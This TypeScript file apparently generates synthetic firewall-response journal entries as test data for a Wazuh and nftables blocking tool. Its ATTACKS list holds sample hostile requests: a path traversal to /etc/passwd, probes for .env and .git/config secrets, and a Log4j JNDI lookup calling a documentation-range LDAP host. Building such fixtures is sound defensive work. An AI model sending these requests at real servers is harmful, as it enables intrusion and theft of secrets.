import type { JournalEvent } from '../../active-response/record/journal.ts';

const HOUR = 3_600_000;

/** Requests of attackers, and the rules that they trigger. The requests at the start of the list come more often. */
const ATTACKS = [
  ['117051', 10, 'Probe: set-up script of phpMyAdmin.', 'GET', '/phpmyadmin/scripts/setup.php', 'ZmEu'],
  [
    '117040',
    10,
    'Attack tool: a scanner by its user agent.',
    'GET',
    '/w00tw00t.at.ISC.SANS.DFind:)',
    'Morfeus Scanner',
  ],
  [
    '117055',
    10,
    'Command or system file in a URL.',
    'GET',
    '/index.php?page=../../etc/passwd',
    'sqlmap/1.7.2#stable',
  ],
  ['117053', 10, 'Probe: a file that holds secrets.', 'GET', '/.env', 'python-requests/2.31.0'],
  [
    '117031',
    10,
    'Pingback spam: the same source comes again and again.',
    'POST',
    '/xmlrpc.php',
    'PHP/5.2.10',
  ],
  [
    '117021',
    10,
    'Open proxy probe: CONNECT to a host that is not ours.',
    'CONNECT',
    'mail.example.net:25',
    '-',
  ],
  ['117053', 10, 'Probe: a file that holds secrets.', 'GET', '/.git/config', 'Go-http-client/1.1'],
  [
    '117056',
    10,
    'Log4j lookup (JNDI) in a request.',
    'GET',
    '/?x=$%7Bjndi:ldap://203.0.113.99/a}',
    'curl/8.5.0',
  ],
  ['5712', 10, 'SSHD brute force trying to get access to the system.', '', '', ''],
] as const;

/** The properties of an invented journal. */
export interface Invented {
  readonly events: number;
  /** The number of addresses. */
  readonly sources: number;
  /** The times of the first and the last event, in milliseconds. */
  readonly from: number;
  readonly to: number;
  /** The address of each source; by default the addresses for documentation, which are few. */
  readonly addressOf?: (source: number) => string;
}

/** The lines of a journal after attacks, in the order of time. The same arguments always give the same lines. */
export function* inventedJournal({
  events,
  sources,
  from,
  to,
  addressOf = documented,
}: Invented): Generator<string> {
  const random = numbers(42);
  const timeOf = hoursOf(from, to, random);
  const offences = new Map<number, number>();
  for (let i = 0; i < events; i++) {
    const time = timeOf((i + 0.5) / events);
    // A few sources come often, and many come once, because a power of a number below 1 is nearer to 0.
    const source = Math.floor(random() ** 2.2 * sources);
    const known = offences.get(source);
    const word = known === undefined || random() < 0.12 ? 'blocked' : random() < 0.985 ? 'already' : 'held';
    const offence = word === 'blocked' ? (known ?? 0) + 1 : (known ?? 1);
    offences.set(source, offence);
    const [rule, level, description, method, target, agent] =
      ATTACKS[Math.floor(random() ** 1.7 * ATTACKS.length)] ?? ATTACKS[0];
    const address = addressOf(source);
    const stamp = new Date(time).toISOString();
    const log =
      method === ''
        ? `sshd[4711]: Failed password for root from ${address} port 41022 ssh2`
        : `${address} - - [${stamp}] "${method} ${target} HTTP/1.1" 404 274 "-" "${agent}"`;
    const event: JournalEvent = {
      time: stamp,
      event: word,
      response: 'firewall-drop',
      command: 'add',
      protocol: 'wazuh4',
      address,
      reason: word === 'blocked' ? `until deleted, offence ${offence}, by nftables` : 'it is blocked already',
      rule,
      level,
      alert: `${Math.floor(time / 1000)}.${i}`,
      location: `(web${1 + (source % 3)}) any->/var/log/${method === '' ? 'auth.log' : 'apache2/access.log'}`,
      description,
      log,
      backend: 'nftables',
      until: new Date(time + 6 * HOUR).toISOString(),
      offence,
      ms: 40,
    };
    yield JSON.stringify(event);
  }
}

/** Addresses for documentation (RFC 5737, RFC 3849). */
export function documented(source: number): string {
  if (source % 5 === 4) return `2001:db8:${(source % 40).toString(16)}::${(source + 16).toString(16)}`;
  const network = ['203.0.113', '198.51.100', '192.0.2'][source % 3];
  return `${network}.${1 + ((source * 37) % 253)}`;
}

/** Returns a function that gives the time by which a share of all events has come. Some hours have more events. */
function hoursOf(from: number, to: number, random: () => number): (share: number) => number {
  const hours = Math.max(1, Math.ceil((to - from) / HOUR));
  const ends: number[] = [];
  let sum = 0;
  for (let hour = 0; hour < hours; hour++) {
    const evening = 1 + 0.7 * Math.sin((hour / 24) * 2 * Math.PI);
    sum += evening * (0.4 + random()) * (random() < 0.04 ? 5 : 1);
    ends.push(sum);
  }
  let hour = 0;
  return (share) => {
    while (hour < hours - 1 && (ends[hour] ?? 0) < share * sum) hour++;
    const [start, end] = [ends[hour - 1] ?? 0, ends[hour] ?? 1];
    const within = (share * sum - start) / (end - start);
    return Math.round(from + ((hour + within) / hours) * (to - from));
  };
}

/** Pseudo-random numbers from 0 to 1, the same each time (mulberry32). */
function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}
